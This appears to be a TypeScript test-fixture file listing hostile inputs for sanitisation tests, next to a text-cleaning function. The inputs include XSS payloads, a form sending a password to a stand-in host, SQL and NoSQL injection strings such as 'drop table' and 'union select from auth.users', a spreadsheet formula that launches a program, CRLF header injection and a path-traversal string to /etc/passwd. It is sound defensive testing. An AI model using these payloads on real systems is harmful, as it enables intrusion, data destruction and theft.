/** Words that want to be more than words, and signs that are none. */

/** Set by any of the programs below that runs. */
export const alarm = 'terbobol';

export const programs = [
  `<script>window.${alarm}=1</script>`,
  `"><img src=x onerror=window.${alarm}=1>`,
  `'><svg/onload=window.${alarm}=1>`,
  `</textarea></title></style><script>window.${alarm}=1</script>`,
  `<iframe srcdoc="<script>parent.${alarm}=1</script>"></iframe>`,
  `<a href="javascript:window.${alarm}=1">tekan</a>`,
  `" autofocus onfocus="window.${alarm}=1" x="`,
  `\`-window.${alarm}=1-\``,
  `&lt;script&gt;window.${alarm}=1&lt;/script&gt;`,
  `<!--><script>window.${alarm}=1</script-->`,
  `<style>@import 'https://jahat.test/x.css';</style>`,
  `<meta http-equiv=refresh content="0;url=https://jahat.test">`,
  `<form action=https://jahat.test><input name=password></form>`,
  `{{constructor.constructor('window.${alarm}=1')()}} \${window.${alarm}=1} <%= 1 %>`,
];
export const queries = [
  "'; drop table messages; --",
  `1' or '1'='1`,
  `{"$ne":null}`,
  `\\'; select pg_sleep(9); --`,
  `$$; select 1; $$`,
  `%' union select * from auth.users --`,
  `eq.1,or=(id.gt.0)`,
];
export const signs = [
  '\u0000',
  'a\u0000b',
  '\u0001\u0008\u001B[31m',
  '\u007F\u0085\u009F',
  '\u202Eterbalik\u202C',
  '\u2066\u2067\u2069',
  '\uFEFF\u200B\u200D',
  '\u2028\u2029',
  '\uD800',
  '\uDC00x\uD83D',
  '\uFFFE\uFFFF\u{10FFFF}\u{1FFFE}',
  '👩‍👩‍👧‍👦🏳️‍🌈',
  `e${'\u0301'.repeat(300)}`,
  '﷽'.repeat(50),
  'مرحبا بكم \u202Bfoo',
  '=cmd|/c calc!A1',
  '\r\nSet-Cookie: jahat=1\r\n\r\n<html>',
  '%00%2e%2e%2f%0d%0a',
  '\\u0000 \\x00 \\uD800',
  '../../../../etc/passwd',
  'https://jahat.test/klik?a=1',
  'www.jahat.test jahat@jahat.test',
];

/** As it is kept: without what no eye can see, and with a sign for what is no character. */
export function kept(text: string): string {
  return text
    .toWellFormed()
    .replaceAll('\r\n', '\n')
    .replaceAll(/[\p{Cc}\u202A-\u202E\u2066-\u2069\uFEFF]/gu, (sign) => (/[\n\t]/.test(sign) ? sign : ''))
    .trim();
}
